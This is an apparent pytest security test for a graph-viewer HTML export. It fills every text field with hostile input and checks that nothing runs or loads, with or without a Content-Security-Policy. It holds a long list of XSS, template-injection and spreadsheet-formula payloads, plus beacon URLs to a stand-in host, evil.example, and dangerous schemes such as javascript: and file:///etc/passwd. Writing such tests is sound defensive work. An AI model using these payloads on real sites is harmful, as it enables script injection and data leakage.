"""Names, titles, addresses and sentences come from strangers: nothing in them runs, asks for anything, or is markup."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import networkx as nx
import pytest

from graphkit.schema import Article, Evidence
from graphkit.view.page import PageReview, write_html

from .conftest import Session
from .story_graph import story_graph

BEACON = "https://evil.example/beacon"

HOSTILE = [
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</SCRIPT ><script>window.pwned=1</script>",
    "<!--<script>window.pwned=1",
    "--><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    f"<img src={BEACON}>",
    f"<image href={BEACON}>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    f"<iframe src={BEACON}></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    f"<link rel=stylesheet href={BEACON}>",
    f"<style>@import '{BEACON}';</style>",
    "</style><script>window.pwned=1</script>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f"<base href={BEACON}>",
    f"<object data={BEACON}></object>",
    f"<embed src={BEACON}>",
    f"<video poster={BEACON}>",
    f"<audio src={BEACON} autoplay>",
    f"<form action={BEACON}><input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<math><mtext></table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<template><script>window.pwned=1</script></template>",
    "<a href=javascript:window.pwned=1>click</a>",
    "<b href>bold</b>",
    '"><script>window.pwned=1</script>',
    "'><script>window.pwned=1</script>",
    '" onmouseover=window.pwned=1 x="',
    "' onmouseover=window.pwned=1 x='",
    "` onmouseover=window.pwned=1 `",
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "${window.pwned=1}",
    "`;window.pwned=1;`",
    '\\";window.pwned=1;//',
    "'];window.pwned=1;//",
    "\u2028window.pwned=1\u2029",
    "\x00<script>window.pwned=1</script>",
    "\ud800 lone surrogate",
    "\u202egnp.exe",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "＜script＞window.pwned=1＜/script＞",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<ScRiPt/x>window.pwned=1</sCrIpT>",
    "<script\n>window.pwned=1</script\n>",
    "]]><script>window.pwned=1</script>",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<?xml version='1.0'?><script>window.pwned=1</script>",
    "<xss style='animation-name:x' onanimationstart=window.pwned=1>",
    f"<div style='background:url({BEACON})'>",
    f"<input type=image src={BEACON}>",
    f"<script src={BEACON}></script>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "__proto__",
    "constructor",
    "toString",
    '=HYPERLINK("https://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "a" * 5000,
    "",
]

ADDRESSES = [
    "javascript:window.pwned=1",
    " javascript:window.pwned=1",
    "java\nscript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example",
    'https://evil.example/"><script>window.pwned=1</script>',
    "http://[bad",
    "",
]


def hostile_graph() -> tuple[nx.MultiDiGraph[str], list[Article]]:
    """The story with every text replaced by a hostile one, in turn."""
    graph, articles = story_graph()
    turn = 0

    def next_text() -> str:
        nonlocal turn
        turn += 1
        return HOSTILE[turn % len(HOSTILE)]

    def spoil(told: Evidence) -> Evidence:
        texts = {name: next_text() for name in ("sentence", "title", "outlet", "said_by", "source")}
        return replace(told, **texts, trigger=None, url=ADDRESSES[turn % len(ADDRESSES)])

    for _, attributes in graph.nodes(data=True):
        if entity := attributes.get("entity"):
            texts = {name: next_text() for name in ("name", "wikidata", "country")}
            attributes["entity"] = replace(entity, **texts, aliases=(next_text(), next_text()), grounds=(next_text(),))
        else:
            attributes["incident"] = replace(attributes["incident"], name=next_text())
    for _, _, data in graph.edges(data=True):
        if edge := data.get("edge"):
            data["edge"] = replace(edge, evidence=tuple(spoil(told) for told in edge.evidence))
    spoiled = []
    for i, article in enumerate(articles):
        texts = {name: next_text() for name in ("title", "outlet", "source")} | {"text": "\n\n".join(HOSTILE)}
        spoiled.append(replace(article, **texts, url=ADDRESSES[i % len(ADDRESSES)]))
    return graph, spoiled


def hostile_review(graph: nx.MultiDiGraph[str]) -> PageReview:
    """Decisions of every kind and questions, every cell of them hostile."""
    ids = sorted(node for node, data in graph.nodes(data=True) if "entity" in data)
    kinds = ("same", "different", "apart", "unsure", "reject", "correct", "note", "undo")
    rows = [
        (text, text, kinds[i % len(kinds)], text, text, text, text, "" if i % 2 else '{"kind":"shelling"}', text, text)
        for i, text in enumerate(HOSTILE)
    ]
    questions = [(one, other, 0.8, text) for one, other, text in zip(ids, ids[1:], HOSTILE, strict=False)]
    return PageReview(decisions=rows, questions=questions)


def use_desk(opened: Session) -> None:
    """Opens the review, the comparison, the articles, and a tour of views whose names and notes are hostile."""
    page = opened.page
    page.evaluate(
        """(texts) => {
          const { app } = graphkit;
          app.change({ selected: null, picked: [], path: null, review: true });
          for (const key of "ynsyns") document.body.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true }));
          app.change({ review: false, compare: app.model.outlets.slice(0, 2) });
          app.change({ compare: null });
          app.model.articles.forEach((_, article) => app.change({ reading: { article, at: 0, start: 0 } }));
          const saved = texts.map((text) => ({ name: text, note: text, hash: text }));
          app.change({ reading: null, desk: { ...app.view.desk, by: texts[0], saved } });
          texts.forEach((_, tour) => app.change({ tour }));
        }""",
        HOSTILE,
    )
    page.wait_for_timeout(100)


def use_everything(opened: Session) -> None:
    """Opens every name, line, incident, tab, sheet and list once."""
    page = opened.page
    page.evaluate(
        """() => {
          const { app } = graphkit;
          for (const node of app.model.nodes) app.select(node.row);
          for (const edge of app.model.edges) app.selectPair(edge.from, edge.to);
          for (const details of document.querySelectorAll("details")) details.open = true;
        }"""
    )
    for row in (0, 5, 20, 45):
        page.evaluate(
            """(row) => {
              graphkit.app.select(row);
              for (const part of document.querySelectorAll("#panel details")) part.open = true;
            }""",
            row,
        )
        page.wait_for_timeout(30)
    for tab in ("map", "table", "graph"):
        page.click(f"#tab-{tab}")
        if tab == "table":
            for sheet in ("statements", "names", "incidents"):
                page.click(f"#sheet-{sheet}")
    for text in ("<", "script", "pwned", "__proto__"):
        page.fill("#search", text)
    for colour in ("country", "community", "first"):
        page.evaluate("(colour) => graphkit.app.change({ colour, picked: [0, 5, 20, 45] })", colour)
    page.evaluate("graphkit.app.change({ picked: [], kept: [0, 5], folds: [[0, 5]] })")
    page.evaluate("graphkit.app.change({ kept: [], path: { from: 0, to: 3, choice: 0 }, selected: null })")
    page.mouse.move(600, 400)
    page.mouse.move(640, 440, steps=5)
    page.wait_for_timeout(100)


@pytest.mark.parametrize("has_policy", [True, False])
def test_nothing_hostile_runs_or_is_asked_for(
    has_policy: bool, tmp_path: Path, open_page: Callable[..., Session]
) -> None:
    """With the policy removed the page must be as safe: the policy is the second lock, not the first."""
    graph, articles = hostile_graph()
    path = tmp_path / "hostile.html"
    for number, title in enumerate(HOSTILE[:30:7]):
        write_html(graph, path, title=title, articles=articles, review=hostile_review(graph), rest=title)
        if not has_policy:
            text, removed = re.subn(
                r'<meta http-equiv="Content-Security-Policy"[^>]*>\n', "", path.read_text(encoding="utf-8")
            )
            assert removed == 1
            path.write_text(text, encoding="utf-8")
        opened = open_page(path)
        assert opened.page.title().strip() == title.strip()
        if number == 0:
            use_everything(opened)
            use_desk(opened)
        assert opened.page.evaluate("window.pwned") is None
        assert opened.page.evaluate("document.querySelectorAll('script').length") == 3
        assert (
            opened.page.evaluate("document.querySelectorAll('img, iframe, object, embed, link, base, form').length")
            == 0
        )


def test_every_link_leads_to_http_and_tells_nobody_where_from(
    tmp_path: Path, open_page: Callable[..., Session]
) -> None:
    graph, articles = hostile_graph()
    write_html(graph, tmp_path / "page.html", title="Links", articles=articles)
    opened = open_page(tmp_path / "page.html")
    links = opened.page.evaluate(
        """() => {
          const found = new Set();
          for (const node of graphkit.app.model.nodes) {
            graphkit.app.select(node.row);
            for (const part of document.querySelectorAll("#panel details")) {
              part.open = true;
              part.dispatchEvent(new Event("toggle"));
            }
            for (const link of document.querySelectorAll("a")) found.add([link.protocol, link.rel].join(" "));
          }
          return [...found];
        }"""
    )
    assert links
    assert set(links) <= {"https: noopener noreferrer", "http: noopener noreferrer"}
